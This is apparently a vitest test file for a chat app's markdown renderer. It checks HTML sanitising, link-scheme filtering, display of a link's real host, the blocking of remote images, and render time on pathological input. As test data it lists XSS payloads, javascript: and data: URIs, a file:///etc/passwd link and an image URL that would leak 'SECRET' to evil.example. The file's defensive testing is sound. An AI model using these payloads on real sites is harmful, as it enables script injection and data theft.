// Any text is safe to show, and none takes long (B50–B55, G24).
import { beforeAll, describe, expect, test } from 'vitest';
import { LIMITS } from '../../protocol/limits.ts';
import { createMarkdown, type MarkdownRenderer } from '../../web/text/markdown.ts';
import { computedMs } from '../harness/cpu-time.ts';

let render: MarkdownRenderer;
beforeAll(() => {
  render = createMarkdown();
});

const LINK = 'target="_blank" rel="noopener noreferrer nofollow"';

describe('markdown', () => {
  test('shows what people write', () => {
    expect(render('a **b** `c`\nd')).toBe('<p>a <strong>b</strong> <code>c</code><br>\nd</p>\n');
  });

  test('sees emphasis beside Korean particles', () => {
    expect(render('**"따옴표"**를')).toBe('<p><strong>&quot;따옴표&quot;</strong>를</p>\n');
  });

  test('marks the names it is given', () => {
    expect(render('hi @Ana, not @Ben', { mentions: ['Ana'] })).toBe('<p>hi <span class="mention">@Ana</span>, not @Ben</p>\n');
    expect(render('[@Ana](https://a.example/) `@Ana`', { mentions: ['Ana'] })).not.toContain('mention');
  });

  test('labels a code block and lets it be copied', () => {
    const html = render('```js\n<b>\n```', { words: { copyCode: '복사', showAll: '모두 보기' } });
    expect(html).toContain('<span>js</span>');
    expect(html).toContain('<button type="button" data-copy-code>복사</button>');
    expect(html).toContain('<code>&lt;b&gt;\n</code>');
    expect(html).not.toContain('data-open-code');
  });

  test('offers to show a tall code block whole', () => {
    const html = render('```\n' + 'x\n'.repeat(40) + '```', { words: { copyCode: '복사', showAll: '모두 보기' } });
    expect(html).toContain('<div class="code tall">');
    expect(html).toContain('data-open-code aria-expanded="false">모두 보기</button>');
  });
});

describe('B50: no HTML of a message is HTML of the page', () => {
  test.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<form><input name=innerHTML>',
    '<base href="https://evil.example/">',
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    '<style>*{position:fixed}</style><p style=position:fixed>',
    '<a href="javascript:alert(1)"',
    '```"><img src=x onerror=alert(1)>\nx\n```',
  ])('%s', (text) => {
    const html = render(text);
    expect(html).not.toMatch(/<(script|img|svg|iframe|math|form|input|base|meta|style|link)/i);
    expect(html).not.toMatch(/<[^>]*\s(on\w+|style|srcdoc)=/i);
  });
});

describe('B51: links', () => {
  test.each([
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt&colon;alert(1))',
    '[x](java\tscript:alert(1))',
    '[x](<java\nscript:alert(1)>)',
    '[x](data:text/html,<script>alert(1)</script>)',
    '[x](vbscript:x)',
    '[x](blob:nothing)',
    '[x](file:///etc/passwd)',
    '[x](//evil.example)',
    '[x](/api/session)',
    '[x](#/room/1)',
    '[x][1]\n\n[1]: javascript:alert(1)',
    '<javascript:alert(1)>',
    'ftp://a.example //a.example main.py',
  ])('%s is no link', (text) => {
    expect(render(text)).not.toContain('<a');
  });

  test('http, https and mail open apart and pass nothing on', () => {
    expect(render('[x](https://a.example/b)')).toBe(`<p><a href="https://a.example/b" ${LINK}>x</a></p>\n`);
    expect(render('see http://a.example/b.')).toBe(`<p>see <a href="http://a.example/b" ${LINK}>http://a.example/b</a>.</p>\n`);
    expect(render('ana@a.example')).toBe(`<p><a href="mailto:ana@a.example" ${LINK}>ana@a.example</a></p>\n`);
  });

  test.each([
    ['[https://good.example](https://evil.example/)', 'evil.example'],
    ['[good.example/login](https://evil.example/)', 'evil.example'],
    ['[log in](https://good.example@evil.example/)', 'evil.example'],
    ['https://аррӏе.com', 'xn--80ak6aa92e.com'],
    ['[ana@a.example](mailto:eve@evil.example)', 'eve@evil.example'],
  ])('%s shows where it really goes', (text, host) => {
    expect(render(text)).toContain(`<bdi class="real-host">(${host})</bdi>`);
  });

  test('an honest link shows nothing more', () => {
    expect(render('[www.a.example/x](https://a.example/x)')).not.toContain('real-host');
    expect(render('https://a.example/x')).not.toContain('real-host');
  });
});

describe('B54: nothing is fetched', () => {
  test.each(['![](https://evil.example/?q=SECRET)', '![a][r]\n\n[r]: https://evil.example/x', '![a](http://evil.example/x.png "t")'])(
    '%s',
    (text) => {
      expect(render(text)).not.toMatch(/<img|\ssrc=|srcset|url\(/i);
    },
  );

  test('a picture is a link to press, with its host', () => {
    expect(render('![a cat](https://pics.example/cat.png)')).toBe(
      `<p><a class="picture" href="https://pics.example/cat.png" ${LINK}>a cat</a> <bdi class="real-host">(pics.example)</bdi></p>\n`,
    );
  });
});

describe('B55: no text takes long', () => {
  const most = LIMITS.messageLength;
  const fill = (piece: string): string => piece.repeat(Math.floor(most / piece.length));
  const hostile: Record<string, string> = Object.fromEntries(
    [
      '[',
      '>',
      '> ',
      '_a',
      '*a_',
      '|a',
      '- ',
      '1. ',
      '`',
      '![',
      '[a](',
      '[](<',
      '<',
      '&',
      '\\',
      '~~a',
      '**a ',
      'x\n',
      '# a\n',
      '```\n',
      '|1|2|\n',
      '"',
      'https://a.b/c ',
      'a@b.co ',
      'mailto:',
    ].map((piece) => [JSON.stringify(piece), fill(piece)]),
  );
  hostile['nested lists'] = Array.from({ length: 170 }, (_, depth) => `${' '.repeat(depth)}- a`)
    .join('\n')
    .slice(0, most);
  hostile['a table of 5,000 rows'] = `|a|b|\n|-|-|\n${fill('|1|\n')}`.slice(0, most);
  hostile['growing fences'] = Array.from({ length: 170 }, (_, length) => `${'`'.repeat(length)}a`)
    .join('')
    .slice(0, most);
  hostile['just under the limit of marks'] = '*a_'.repeat(1_950) + 'b'.repeat(10_000);
  hostile['brackets just under the limit'] = '['.repeat(1_950) + ']('.repeat(1_000) + 'b'.repeat(9_000);

  test.each(Object.entries(hostile))('%s', (_name, text) => {
    render('warm');
    const start = computedMs();
    const html = render(text, { mentions: ['Ana', 'a'] });
    expect(computedMs() - start).toBeLessThan(150);
    expect(html.length).toBeLessThan(most * 8);
  });

  test('what is too much is shown as typed, whole', () => {
    const text = fill('> ');
    expect(render(text)).toBe(`<p class="as-typed">${'&gt; '.repeat(most / 2)}</p>`);
  });
});
